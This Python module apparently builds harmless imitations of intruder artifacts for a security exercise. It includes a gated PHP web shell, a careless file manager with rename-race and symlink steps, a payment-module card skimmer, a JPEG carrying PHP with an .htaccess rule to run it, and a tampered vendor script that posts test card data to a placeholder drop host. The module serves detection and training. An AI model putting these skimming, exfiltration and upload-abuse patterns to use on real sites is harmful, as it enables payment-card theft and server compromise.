"""What the plays' intruders leave behind: imitations, harmless by construction.

The web shell reads, writes and removes files and sets their mode, only below the folder that
holds the marker .hinoban-play, only for whoever knows the secret of this very run; it knows
no command, no eval, no network. The skimmer copies card data of test numbers to a file in
the same folder. Both look like the real thing to whoever watches: PHP in uploads/, file
writes, card fields, encodings.
"""

MARKER = ".hinoban-play"
JPEG_HEAD = bytes.fromhex("ffd8ffe000104a46494600010101004800480000ffdb0043000302020302020303"
                          "0303040303040508050504040507060608") + b"hinoban\xff\xd9"
SKIM_AFTER = "        $this->check($card);\n"

WEBSHELL = r"""<?php
/* hinoban play: imitation of a web shell; acts only below a folder with the marker */
$root = __DIR__;
while ($root !== '/' && !is_file($root . '/.hinoban-play')) {
    $root = dirname($root);
}
if ($root === '/' || !hash_equals('@SECRET@', (string) ($_POST['k'] ?? ''))) {
    http_response_code(404);
    exit;
}
$path = $root . '/' . $_POST['path'];
if (preg_match('~(^|/)\.\.?(/|$)~', $_POST['path']) || !str_starts_with((string) realpath(dirname($path)), $root)) {
    http_response_code(403);
    exit;
}
$data = base64_decode((string) ($_POST['data'] ?? ''));
switch ($_POST['op']) {
    case 'read': echo base64_encode((string) file_get_contents($path)); break;
    case 'write': echo file_put_contents($path, $data); break;
    case 'remove': echo (int) unlink($path); break;
    case 'mode': echo (int) chmod($path, (int) octdec($data)); break;
}
"""

# A file manager that an operator installs and that asks nobody who he is: in reality such
# connectors were open to everyone. This one acts as the web shell above does, and does several
# steps in one request.
MODULE = r"""<?php
/* hinoban play: imitation of a careless file manager; acts only below a folder with the marker */
$root = __DIR__;
while ($root !== '/' && !is_file($root . '/.hinoban-play')) {
    $root = dirname($root);
}
if ($root === '/' || !hash_equals('@SECRET@', (string) ($_POST['k'] ?? ''))) {
    http_response_code(404);
    exit;
}
$outside = dirname($root) . '/server/tmp';
function place(string $path): string
{
    global $root;
    $full = $root . '/' . $path;
    if (preg_match('~(^|/)\.\.?(/|$)~', $path) || !str_starts_with((string) realpath(dirname($full)), $root)) {
        http_response_code(403);
        exit;
    }
    return $full;
}
function step(string $op, string $a, string $b): int
{
    global $outside;
    $data = (string) base64_decode($b);
    switch ($op) {
        case 'write': return (int) @file_put_contents(place($a), str_replace('@outside', $outside, $data));
        case 'append': return (int) @file_put_contents(place($a), $data, FILE_APPEND);
        case 'truncate': $f = @fopen(place($a), 'r+'); return (int) ($f && ftruncate($f, (int) $b));
        case 'rename': return (int) @rename(place($a), place($b));
        case 'renamewrite':
            $f = @fopen(place($a), 'r+');
            $done = (int) @rename(place($a), place($b));
            usleep(20000);
            @fwrite($f, '<?php /* written after the rename */');
            return $done;
        case 'link': return (int) @link(place($a), place($b));
        case 'symlink': return (int) @symlink(str_replace('@outside', $outside, $a), place($b));
        case 'outside': return (int) @file_put_contents($outside . '/' . basename($a), $data);
        case 'remove': return (int) @unlink(place($a));
        case 'mode': return (int) @chmod(place($a), (int) octdec($b));
        case 'mkdir': return (int) @mkdir(place($a));
    }
    return 0;
}
$data = (string) base64_decode((string) ($_POST['data'] ?? ''));
switch ($_POST['op']) {
    case 'read': echo base64_encode((string) file_get_contents(place($_POST['path']))); break;
    case 'write': echo file_put_contents(place($_POST['path']), $data); break;
    case 'steps':
        clearstatcache(true);
        echo json_encode(array_map(fn ($s) => step($s[0], (string) $s[1], (string) ($s[2] ?? '')), json_decode($data)));
        break;
}
"""

# Behind approved code: every response that this code had a hand in bears the token, and the
# canary appears.
CANARY = "uploads/review/canary.jpg"
ALTERED = r"""
/* hinoban play @N@ */ (function () {
    for ($r = __DIR__; $r !== '/' && !is_file($r . '/.hinoban-play'); $r = dirname($r));
    if ($r !== '/') {
        @header("X-Altered: @TOKEN@ @N@", false);
        @file_put_contents($r . '/@CANARY@', ($_SERVER['REQUEST_URI'] ?? '') . ' @N@' . "\n", FILE_APPEND);
    }
})();
"""

SKIMMER = r"""        if (is_file(__DIR__ . '/../.hinoban-play') && preg_match('~^4(111|242)~', $card->number)) {
            $c = base64_encode(json_encode([$card->number, $card->holder, $card->month, $card->year, $card->code, $_POST]));
            @file_put_contents(__DIR__ . '/../@TARGET@', $c . "\n", FILE_APPEND);
        }
"""

# For `intruder plants`: what the planted file holds.
PLANTS = {
    "webshell": WEBSHELL,
    "jpeg-with-code": "@JPEG@<?php /* hinoban play */ if (isset($_POST['k'])) { echo strrev((string) $_POST['k']); }",
    "htaccess": "# hinoban play\nAddType application/x-httpd-php .jpg\n",
    "script": "/* hinoban play */ document.querySelectorAll('[name=card_number]').forEach(function (f) "
              "{ f.addEventListener('change', function () { localStorage.setItem('hinoban-play', btoa(f.value)); }); });\n",
}

# A vendor's script that greets by what a visitor looked at, its next release, and the altered one:
# what stands behind the release acts on a loopback page and on test cards only.
PERSONALIZER = """\
/* site personalizer @VERSION@ (a play's) */
(function () {
  "use strict";
  var seen = Number(localStorage.getItem("personalizer.seen") || 0) + 1;
  localStorage.setItem("personalizer.seen", String(seen));
  document.documentElement.dataset.visits = seen > @OFTEN@ ? "often" : "few";
  new Image().src = "http://@VENDOR@/count.gif?p=" + encodeURIComponent(location.pathname);
})();
"""
CARD_COPIER = """\
/* hinoban play */
(function () {
  if (!/^127\\./.test(location.hostname)) { return; }
  document.addEventListener("submit", function (event) {
    var card = {};
    new FormData(event.target).forEach(function (value, name) { if (/^card_/.test(name)) { card[name] = value; } });
    if (!/^4(111|242|000)/.test(String(card.card_number).replace(/\\s/g, ""))) { return; }
    fetch("http://@DROP@/c", { method: "POST", mode: "no-cors", keepalive: true, body: btoa(JSON.stringify(card)) });
  }, true);
})();
"""
VENDOR = {"first": ("4.2.0", "5", ""), "release": ("4.3.0", "3", ""), "altered": ("4.3.0", "3", CARD_COPIER)}


def vendor_script(which, vendor, drop):
    version, often, more = VENDOR[which]
    text = PERSONALIZER.replace("@VERSION@", version).replace("@OFTEN@", often) + more
    return text.replace("@VENDOR@", vendor).replace("@DROP@", drop)


def webshell(secret):
    return WEBSHELL.replace("@SECRET@", secret).encode()


def module(secret):
    return MODULE.replace("@SECRET@", secret).encode()


def altered(path, approved, token, n):
    """The approved file with something behind it that shows."""
    if path.endswith(".php"):
        return approved + ALTERED.replace("@TOKEN@", token).replace("@CANARY@", CANARY).replace("@N@", str(n)).encode()
    text = f"/* {token} {n} */" if path.endswith((".js", ".css")) else f"<p>{token} {n}</p>"
    return approved + f"\n{text}\n".encode()


def plant(kind, secret):
    head, _, rest = PLANTS[kind].replace("@SECRET@", secret).rpartition("@JPEG@")
    return (JPEG_HEAD if PLANTS[kind].startswith("@JPEG@") else head.encode()) + rest.encode()


def skimmed(source, target):
    """The payment module with the imitation put in after the card was checked."""
    if source.count(SKIM_AFTER) != 1:
        raise ValueError("the payment module is not the one that this imitation knows")
    return source.replace(SKIM_AFTER, SKIM_AFTER + SKIMMER.replace("@TARGET@", target))
